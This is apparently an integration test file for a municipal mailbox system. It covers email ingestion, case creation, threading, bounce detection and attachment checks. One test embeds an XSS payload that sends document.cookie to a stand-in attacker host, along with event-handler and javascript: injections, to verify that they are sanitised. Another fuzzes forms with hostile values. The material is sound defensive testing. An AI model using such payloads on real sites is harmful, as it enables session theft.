import MailComposer from 'nodemailer/lib/mail-composer';
import sharp from 'sharp';
import { CaseWorkService } from '../../src/cases/case-work.service';
import { CasesRepository } from '../../src/cases/cases.repository';
import { FileStorage } from '../../src/storage/file-storage';
import { MailAttachment } from '../../src/mailbox/mail-attachment.entity';
import { MailMessage } from '../../src/mailbox/mail-message.entity';
import { MailboxWorker } from '../../src/mailbox/mailbox.worker';
import { OutboxWorker } from '../../src/notifications/outbox.worker';
import { createTestApp, csrfFrom, login, submitForm, TestApp } from '../support/app';
import { seedCategory } from '../support/cases';
import { findForms, HOSTILE_VALUES } from '../support/forms';
import { describeWithImap, rawMessage, TestImapServer } from '../support/imap';
import { TestSmtpServer } from '../support/smtp';

const OFFICE = 'atencion@tampacan.gob.mx';

function compose(mail: ConstructorParameters<typeof MailComposer>[0]): Promise<Buffer> {
  return new MailComposer({ to: OFFICE, date: new Date(), ...mail }).compile().build();
}

describeWithImap('the official mailbox against a real Dovecot on loopback', () => {
  const imap = new TestImapServer();
  const smtp = new TestSmtpServer();
  let t: TestApp;
  let env: Record<string, string>;
  const worker = () => t.app.get(MailboxWorker);
  const messages = () => t.dataSource.getRepository(MailMessage);
  const bySubject = async (subject: string) => (await messages().findOne({ where: { subject } }))!;

  beforeAll(async () => {
    await imap.start();
    await smtp.start();
    env = { ...imap.env(), IMAP_POLL_MS: '0', SMTP_URL: smtp.url, MAIL_FROM: `H. Ayuntamiento de Tampacán <${OFFICE}>` };
    t = await createTestApp(env);
  });
  afterAll(async () => {
    await t?.close();
    await imap.stop();
    await smtp.stop();
    for (const k of [...Object.keys(imap.env()), 'IMAP_POLL_MS', 'SMTP_URL', 'MAIL_FROM']) delete process.env[k];
  });

  it('takes each message in exactly once, and never deletes it from the server', async () => {
    await imap.append(rawMessage({ from: 'Obras Públicas <obras@tampacan.gob.mx>', subject: 'Informe semanal de bacheo', text: 'Se atendieron 14 baches en la cabecera.' }));
    await imap.append(rawMessage({ from: 'Vecina <lucia.hernandez@example.com>', subject: 'Fuga de agua en Tancuilín', text: 'Hay una fuga de agua potable frente a la escuela primaria desde el lunes.' }));
    const first = await worker().fetchNow();
    expect(first).toMatchObject({ ok: true, fetched: 2, outcomes: { stored: 2 } });
    expect(await worker().fetchNow()).toMatchObject({ ok: true, fetched: 0 });
    expect(await messages().count()).toBe(2);
    expect(await imap.count()).toBe(2);
    const m = await bySubject('Fuga de agua en Tancuilín');
    expect(m).toMatchObject({ fromAddress: 'lucia.hernandez@example.com', fromName: 'Vecina', state: 'new', kind: 'message' });
  });

  it('shows the shared inbox to press, attention and admin, and not to a liaison', async () => {
    const press = await t.factories.user('press');
    const agent = t.agent();
    await login(agent, press.email, press.password);
    const page = await agent.get('/correo');
    expect(page.status).toBe(200);
    expect(page.text).toContain('Fuga de agua en Tancuilín');
    expect(page.text).toContain('lucia.hernandez@example.com');
    expect(page.text).toContain('Nuevo');
    expect((await agent.get('/correo/saliente')).status).toBe(200);
    const liaison = await t.factories.user('liaison');
    const other = t.agent();
    await login(other, liaison.email, liaison.password);
    expect((await other.get('/correo')).status).toBe(403);
  });

  it('turns a message into a case: channel email, sender as contact, photo carried over, receipt answering the email', async () => {
    const { category } = await seedCategory(t, { name: 'Alumbrado público' });
    const photo = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#224' } }).jpeg().toBuffer();
    const originalId = '<luminaria-1@example.com>';
    await imap.append(await compose({ from: 'Ramón Castillo <ramon.castillo@example.com>', subject: 'Luminaria fundida en Chuchupe', messageId: originalId, text: 'La luminaria de la calle Morelos lleva una semana apagada.', attachments: [{ filename: 'foto.jpg', content: photo, contentType: 'image/jpeg' }] }));
    await worker().fetchNow();
    const msg = await bySubject('Luminaria fundida en Chuchupe');

    const attention = await t.factories.user('attention', { name: 'Marisol Torres' });
    const agent = t.agent();
    await login(agent, attention.email, attention.password);
    // Bad input: same page, 422, message beside the field, nothing created.
    const bad = await submitForm(agent, `/correo/mensajes/${msg.id}`, `/correo/mensajes/${msg.id}/caso`, { type: 'service_request', categoryId: '', locality: 'Chuchupe', description: 'La luminaria de la calle Morelos lleva una semana apagada.' });
    expect(bad.status).toBe(422);
    expect(bad.text).toContain('Elija un tema de la lista.');
    expect((await messages().findOneBy({ id: msg.id }))!.state).toBe('new');

    const res = await submitForm(agent, `/correo/mensajes/${msg.id}`, `/correo/mensajes/${msg.id}/caso`, { type: 'service_request', categoryId: String(category.id), locality: 'Chuchupe', description: 'La luminaria de la calle Morelos lleva una semana apagada.' });
    expect(res.status).toBe(303);
    const folio = /\/casos\/(AC-\d{4}-\d{6})/.exec(res.headers.location)![1];
    const c = (await t.app.get(CasesRepository).findByFolio(folio))!;
    expect(c).toMatchObject({ channel: 'email', contactEmail: 'ramon.castillo@example.com', contactName: 'Ramón Castillo' });
    expect(await t.app.get(CasesRepository).attachments(c.id)).toHaveLength(1);
    expect(await messages().findOneBy({ id: msg.id })).toMatchObject({ state: 'handled', caseFolio: folio, assigneeId: attention.id });
    const audit = await t.dataSource.query(`SELECT action FROM audit_log WHERE entity_type = 'mail_message' AND entity_id = $1`, [String(msg.id)]);
    expect(audit.map((a: { action: string }) => a.action)).toContain('mailbox.to_case');

    await t.app.get(OutboxWorker).drain();
    const [receipt] = smtp.to('ramon.castillo@example.com');
    expect(receipt.parsed.subject).toContain(folio);
    expect(receipt.parsed.inReplyTo).toBe(originalId);
    expect(receipt.parsed.messageId).toMatch(new RegExp(`^<${folio}\\.[0-9a-f]+@tampacan\\.gob\\.mx>$`));
  });

  it('a public reply goes out threaded, and the citizen answer lands in the timeline and flags the case', async () => {
    const c = (await t.app.get(CasesRepository).findByPerson('ramon.castillo@example.com', null))[0];
    const staff = await t.factories.user('attention', { name: 'Pedro Ruiz' });
    await t.app.get(CaseWorkService).reply(c.id, c.version, 'Mañana pasa la cuadrilla de alumbrado.', { audit: { userId: staff.id, label: staff.email, ip: null, role: 'attention' }, userId: staff.id, name: staff.name, role: 'attention', departmentId: null });
    await t.app.get(OutboxWorker).drain();
    const mails = smtp.to('ramon.castillo@example.com');
    const reply = mails[mails.length - 1];
    expect(reply.parsed.subject).toBe(`Respuesta a su solicitud ${c.folio}`);
    const receiptId = mails[0].parsed.messageId!;
    expect(reply.parsed.inReplyTo).toBe(receiptId);
    expect(reply.parsed.references).toEqual(expect.arrayContaining(['<luminaria-1@example.com>', receiptId]));

    // A message from the same person about something else, without headers or folio: not threaded.
    await imap.append(rawMessage({ from: 'Ramón Castillo <ramon.castillo@example.com>', subject: 'Otra cosa: poda de árboles', text: 'También quiero pedir la poda de un árbol.' }));
    // The citizen's answer, from another address, quoting only the headers of the reply.
    await imap.append(rawMessage({ from: 'Ramón C. <ramonc@otro.example>', subject: `Re: Respuesta a su solicitud ${c.folio}`, inReplyTo: reply.parsed.messageId, references: `${receiptId} ${reply.parsed.messageId}`, text: 'Gracias. La luminaria es la segunda después de la tienda.\n\n> Mañana pasa la cuadrilla' }));
    const run = await worker().fetchNow();
    expect(run.outcomes).toMatchObject({ stored: 1, threaded: 1 });

    const events = await t.app.get(CasesRepository).events(c.id, true);
    const answer = events.filter((e) => e.kind === 'citizen_info');
    expect(answer).toHaveLength(1);
    expect(answer[0].body).toContain('La luminaria es la segunda');
    expect(answer[0].data).toMatchObject({ via: 'email' });
    expect((await t.app.get(CasesRepository).findById(c.id))!.citizenEmailAt).not.toBeNull();
    expect(await bySubject('Otra cosa: poda de árboles')).toMatchObject({ kind: 'message', state: 'new', caseFolio: null });
    expect(await bySubject(`Re: Respuesta a su solicitud ${c.folio}`)).toMatchObject({ kind: 'case_reply', caseFolio: c.folio });

    const agent = t.agent();
    await login(agent, staff.email, staff.password);
    expect((await agent.get(`/casos/${c.folio}`)).text).toContain('El ciudadano respondió por correo');
  });

  it('takes a message in hand, then attaches it to an existing case (bad folio refused beside the field)', async () => {
    const c = (await t.app.get(CasesRepository).findByPerson('ramon.castillo@example.com', null))[0];
    const m = await bySubject('Otra cosa: poda de árboles');
    const attention = await t.factories.user('attention', { name: 'Irma Salazar' });
    const agent = t.agent();
    await login(agent, attention.email, attention.password);
    expect((await submitForm(agent, `/correo/mensajes/${m.id}`, `/correo/mensajes/${m.id}/tomar`, {})).status).toBe(303);
    expect(await messages().findOneBy({ id: m.id })).toMatchObject({ state: 'in_progress', assigneeId: attention.id });
    expect((await agent.get('/correo?estado=en-atencion')).text).toContain('Irma Salazar');

    const bad = await submitForm(agent, `/correo/mensajes/${m.id}`, `/correo/mensajes/${m.id}/vincular`, { folio: 'AC-1999-000001' });
    expect(bad.status).toBe(422);
    expect(bad.text).toContain('No hay una solicitud con ese folio.');
    const ok = await submitForm(agent, `/correo/mensajes/${m.id}`, `/correo/mensajes/${m.id}/vincular`, { folio: c.folio.toLowerCase() });
    expect(ok.status).toBe(303);
    expect(ok.headers.location).toBe(`/casos/${c.folio}`);
    const notes = (await t.app.get(CasesRepository).events(c.id, false)).filter((e) => e.kind === 'internal_note');
    expect(notes.at(-1)!.body).toContain('También quiero pedir la poda de un árbol.');
    expect(await messages().findOneBy({ id: m.id })).toMatchObject({ state: 'handled', caseFolio: c.folio });
    const audit = await t.dataSource.query(`SELECT action FROM audit_log WHERE entity_type = 'mail_message' AND entity_id = $1 ORDER BY id`, [String(m.id)]);
    expect(audit.map((a: { action: string }) => a.action)).toEqual(['mailbox.take', 'mailbox.attach_to_case']);
    // Done is done: a second action is refused, not repeated.
    const again = await submitForm(agent, `/correo/mensajes/${m.id}`, `/correo/mensajes/${m.id}/estado`, { state: 'handled', note: '' });
    expect(again.status).toBe(303);
    expect((await agent.get(`/correo/mensajes/${m.id}`)).text).toContain('Este mensaje ya fue atendido o descartado.');
    expect((await messages().findOneBy({ id: m.id }))!.note).toBeNull();
  });

  it('recognises auto-replies and bounces: no case, no timeline entry, no answer', async () => {
    const c = (await t.app.get(CasesRepository).findByPerson('ramon.castillo@example.com', null))[0];
    const before = (await t.app.get(CasesRepository).events(c.id, false)).length;
    const sentBefore = smtp.received.length;
    const receiptId = smtp.to('ramon.castillo@example.com')[0].parsed.messageId!;
    await imap.append(rawMessage({ from: 'Ramón Castillo <ramon.castillo@example.com>', subject: `Respuesta automática: Acuse de recibo: solicitud ${c.folio}`, inReplyTo: receiptId, headers: { 'Auto-Submitted': 'auto-replied', 'X-Autoreply': 'yes' }, text: 'Estoy de vacaciones hasta el lunes.' }));
    const bounce = [
      'From: Mail Delivery System <MAILER-DAEMON@mx.example.com>', `To: ${OFFICE}`, 'Subject: Undelivered Mail Returned to Sender', `Date: ${new Date().toUTCString()}`,
      'Message-ID: <rebote-1@mx.example.com>', 'MIME-Version: 1.0', 'Content-Type: multipart/report; report-type=delivery-status; boundary="B"', '',
      '--B', 'Content-Type: text/plain', '', 'No se pudo entregar a nadie@example.com', '--B', 'Content-Type: message/delivery-status', '', 'Reporting-MTA: dns; mx.example.com', '', 'Final-Recipient: rfc822; nadie@example.com', 'Action: failed', 'Status: 5.1.1', '--B--', '',
    ].join('\r\n');
    await imap.append(bounce);
    const run = await worker().fetchNow();
    expect(run.outcomes).toEqual({ automated: 2 });
    expect((await t.app.get(CasesRepository).events(c.id, false)).length).toBe(before);
    await t.app.get(OutboxWorker).drain();
    expect(smtp.received.length).toBe(sentBefore);
    const auto = await messages().find({ where: { kind: 'automated' } });
    expect(auto.map((m) => m.automatedKind).sort()).toEqual(['auto_reply', 'bounce']);
    expect(auto.every((m) => m.state === 'discarded')).toBe(true);

    const admin = await t.factories.user('admin');
    const agent = t.agent();
    await login(agent, admin.email, admin.password);
    const page = await agent.get('/correo?estado=automaticos');
    expect(page.text).toContain('Undelivered Mail Returned to Sender');
    expect((await agent.get('/correo')).text).not.toContain('Undelivered Mail Returned to Sender');
    // No action turns a machine's message into anything.
    const id = auto[0].id;
    expect((await agent.get(`/correo/mensajes/${id}`)).text).not.toContain(`/correo/mensajes/${id}/caso`);
  });

  it('renders an HTML message safely: no script, no remote image', async () => {
    await imap.append(rawMessage({ from: 'Boletín <noticias@example.org>', subject: 'Invitación con imagen', html: '<html><head><style>body{display:none}</style></head><body><p onmouseover="robar()">Le invitamos <b>al foro</b>.</p><script>document.location="https://malo.example/?c="+document.cookie</script><img src="https://rastreo.example/pixel.gif?id=42" alt="logotipo"><a href="javascript:alert(1)">clic</a></body></html>' }));
    await worker().fetchNow();
    const m = await bySubject('Invitación con imagen');
    const press = await t.factories.user('press');
    const agent = t.agent();
    await login(agent, press.email, press.password);
    const page = await agent.get(`/correo/mensajes/${m.id}`);
    expect(page.status).toBe(200);
    expect(page.text).toContain('<b>al foro</b>');
    expect(page.text).not.toContain('malo.example');
    expect(page.text).not.toContain('rastreo.example');
    expect(page.text).not.toContain('onmouseover');
    expect(page.text).not.toContain('javascript:alert');
    expect(page.text).toContain('[imagen remota bloqueada] logotipo');
    expect(page.text).toContain('Se bloqueó 1 imagen remota');
  });

  it('refuses a 20 MB attachment and a disguised executable, with a note, and keeps the rest', async () => {
    const pdf = Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');
    const big = Buffer.concat([pdf, Buffer.alloc(20 * 1024 * 1024, 0x20)]);
    const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(4096, 0x90)]);
    await imap.append(
      await compose({
        from: 'DIF Municipal <dif@tampacan.gob.mx>', subject: 'Oficio y anexos',
        text: 'Adjuntamos el oficio y sus anexos.',
        attachments: [
          { filename: 'oficio.pdf', content: pdf, contentType: 'application/pdf' },
          { filename: 'anexo-grande.pdf', content: big, contentType: 'application/pdf' },
          { filename: 'factura.pdf', content: exe, contentType: 'application/pdf' },
        ],
      }),
    );
    expect(await worker().fetchNow()).toMatchObject({ ok: true, outcomes: { stored: 1 } });
    const m = await bySubject('Oficio y anexos');
    const files = await t.dataSource.getRepository(MailAttachment).find({ where: { messageId: m.id }, order: { id: 'ASC' } });
    expect(files.map((f) => [f.filename, f.refusedReason])).toEqual([
      ['oficio.pdf', null],
      ['anexo-grande.pdf', 'mailbox.refused.too_big'],
      ['factura.pdf', 'mailbox.refused.executable'],
    ]);
    expect(files[0].storageKey).not.toBeNull();
    expect(await t.app.get(FileStorage).exists(files[0].storageKey!)).toBe(true);
    expect(files[1].storageKey).toBeNull();
    expect(files[2].storageKey).toBeNull();
    expect(files[2].detectedType).toBe('application/x-msdownload');

    const press = await t.factories.user('press');
    const agent = t.agent();
    await login(agent, press.email, press.password);
    const page = await agent.get(`/correo/mensajes/${m.id}`);
    expect(page.text).toContain('pesa más de 15 MB');
    expect(page.text).toContain('es un programa ejecutable');
    const download = await agent.get(`/correo/mensajes/${m.id}/adjuntos/${files[0].id}`);
    expect(download.status).toBe(200);
    expect(download.headers['content-type']).toBe('application/pdf');
    expect((await agent.get(`/correo/mensajes/${m.id}/adjuntos/${files[2].id}`)).status).toBe(404);
  });

  it('saves a message’s photos to the media bank, credited to the sender, and skips what the bank does not take', async () => {
    const photo = await sharp({ create: { width: 800, height: 600, channels: 3, background: '#c83' } }).jpeg().toBuffer();
    const sheet = Buffer.from('PK\u0003\u0004'); // not a file the bank takes
    await imap.append(
      await compose({
        from: 'Comunicación DIF <dif@tampacan.gob.mx>', subject: 'Fotos de la entrega de despensas',
        text: 'Les compartimos las fotos de hoy en Chuchupe.',
        attachments: [
          { filename: 'entrega-despensas.jpg', content: photo, contentType: 'image/jpeg' },
          { filename: 'lista.xlsx', content: sheet, contentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' },
        ],
      }),
    );
    await worker().fetchNow();
    const m = await bySubject('Fotos de la entrega de despensas');
    const liaison = await t.factories.user('liaison');
    const outsider = t.agent();
    await login(outsider, liaison.email, liaison.password);
    expect((await outsider.post(`/correo/mensajes/${m.id}/banco`).type('form').send({ _csrf: csrfFrom((await outsider.get('/panel')).text) })).status).toBe(403);

    const press = await t.factories.user('press');
    const agent = t.agent();
    await login(agent, press.email, press.password);
    const page = await agent.get(`/correo/mensajes/${m.id}`);
    expect(page.text).toContain('Guardar los adjuntos en el banco');
    const res = await agent.post(`/correo/mensajes/${m.id}/banco`).type('form').send({ _csrf: csrfFrom(page.text) });
    expect(res.status).toBe(303);
    expect((await agent.get(res.headers.location)).text).toContain('Los adjuntos se guardaron en el banco de medios.');
    const assets = await t.dataSource.query(`SELECT id, kind, original_name, credit, caption, rights, web_key, thumb_key FROM media_assets WHERE original_name LIKE 'entrega-despensas%'`);
    expect(assets).toHaveLength(1);
    expect(assets[0]).toMatchObject({ kind: 'photo', credit: 'dif@tampacan.gob.mx', rights: 'institutional' });
    expect(assets[0].caption).toContain('«Fotos de la entrega de despensas»');
    expect(assets[0].web_key).not.toBeNull(); // through the bank's own intake: web copy and thumbnail made
    expect(await t.dataSource.query(`SELECT 1 FROM media_assets WHERE original_name LIKE 'lista%'`)).toEqual([]);
    const [audit] = await t.dataSource.query(`SELECT details FROM audit_log WHERE action = 'mailbox.to_media_bank' AND entity_id = $1`, [String(m.id)]);
    expect(audit.details.entries).toEqual([assets[0].id]);
    expect((await agent.get(`/banco/${assets[0].id}`)).status).toBe(200);
  });

  it('marks a message discarded only with a note, audited', async () => {
    const m = await bySubject('Informe semanal de bacheo');
    const press = await t.factories.user('press');
    const agent = t.agent();
    await login(agent, press.email, press.password);
    const bad = await submitForm(agent, `/correo/mensajes/${m.id}`, `/correo/mensajes/${m.id}/estado`, { state: 'discarded', note: '' });
    expect(bad.status).toBe(422);
    expect(bad.text).toContain('Escriba por qué se descarta.');
    const ok = await submitForm(agent, `/correo/mensajes/${m.id}`, `/correo/mensajes/${m.id}/estado`, { state: 'discarded', note: 'Informativo, sin acción.' });
    expect(ok.status).toBe(303);
    expect(await messages().findOneBy({ id: m.id })).toMatchObject({ state: 'discarded', note: 'Informativo, sin acción.', assigneeId: press.id });
  });

  it('survives hostile input on every form of a message page: no 500, nothing unescaped', async () => {
    await imap.append(rawMessage({ from: 'Alguien <alguien@example.com>', subject: 'Para el barrido', text: 'Texto cualquiera para probar los formularios.' }));
    await worker().fetchNow();
    const m = await bySubject('Para el barrido');
    const admin = await t.factories.user('admin');
    const agent = t.agent();
    await login(agent, admin.email, admin.password);
    const path = `/correo/mensajes/${m.id}`;
    const page = await agent.get(path);
    const forms = findForms(page.text, path).filter((f) => f.method === 'post');
    expect(forms.map((f) => f.action)).toEqual(expect.arrayContaining([`${path}/caso`, `${path}/vincular`, `${path}/agenda`, `${path}/estado`]));
    const failures: string[] = [];
    for (const form of forms) {
      const editable = form.fields.filter((f) => !['hidden', 'submit', 'radio'].includes(f.type) && f.name !== '_csrf');
      for (const field of editable) {
        for (const h of HOSTILE_VALUES) {
          const body: Record<string, string | string[]> = Object.fromEntries(form.fields.filter((f) => f.name !== '_csrf').map((f) => [f.name, f.value]));
          body[field.name] = h.value;
          const res = await agent.post(form.action).type('form').send({ ...body, _csrf: csrfFrom(page.text) });
          if (res.status >= 500) failures.push(`${form.action} ${field.name} ${h.label}: ${res.status}`);
          if (res.text.includes('<script>alert("xss")</script>')) failures.push(`${form.action} ${field.name} ${h.label}: unescaped`);
        }
      }
    }
    expect(failures).toEqual([]);
  });

  it('a broken connection is retried with backoff and shown to staff, and the app keeps working', async () => {
    await imap.pause();
    const run = await worker().fetchNow();
    expect(run.ok).toBe(false);
    const again = await worker().fetchNow();
    expect(again.ok).toBe(false);
    const sync = (await t.dataSource.query(`SELECT failures, next_attempt_at AS "next", last_error AS "error" FROM mailbox_sync`))[0];
    expect(sync.failures).toBe(2);
    expect(new Date(sync.next).getTime()).toBeGreaterThan(Date.now() + 60_000);
    // The timer's round respects the wait: nothing is tried until then.
    await worker().tick();
    expect((await t.dataSource.query(`SELECT failures FROM mailbox_sync`))[0].failures).toBe(2);
    const admin = await t.factories.user('admin');
    const agent = t.agent();
    await login(agent, admin.email, admin.password);
    const page = await agent.get('/correo');
    expect(page.status).toBe(200);
    expect(page.text).toContain('No se pudo leer el buzón oficial (2 intentos fallidos seguidos)');
    expect((await agent.get('/health')).status).toBe(200);
    // The server is back: the next round works and the warning goes away.
    await imap.start();
    expect(await worker().fetchNow()).toMatchObject({ ok: true });
    expect((await agent.get('/correo')).text).not.toContain('No se pudo leer el buzón oficial');
  });

  // Last: after a second app boots in this process, sessions of the first cannot sign in (passport's serializer is global).
  it('takes nothing twice after a restart of the app, and goes on with what is new', async () => {
    const before = await messages().count();
    await t.app.close();
    t = await createTestApp(env, { schema: t.schema });
    expect(await worker().fetchNow()).toMatchObject({ ok: true, fetched: 0 });
    await imap.append(rawMessage({ from: 'Cultura <cultura@tampacan.gob.mx>', subject: 'Programa del festival', text: 'Les enviamos el programa.' }));
    expect(await worker().fetchNow()).toMatchObject({ ok: true, fetched: 1 });
    expect(await messages().count()).toBe(before + 1);
    expect(await imap.count()).toBe(before + 1);
  });
});
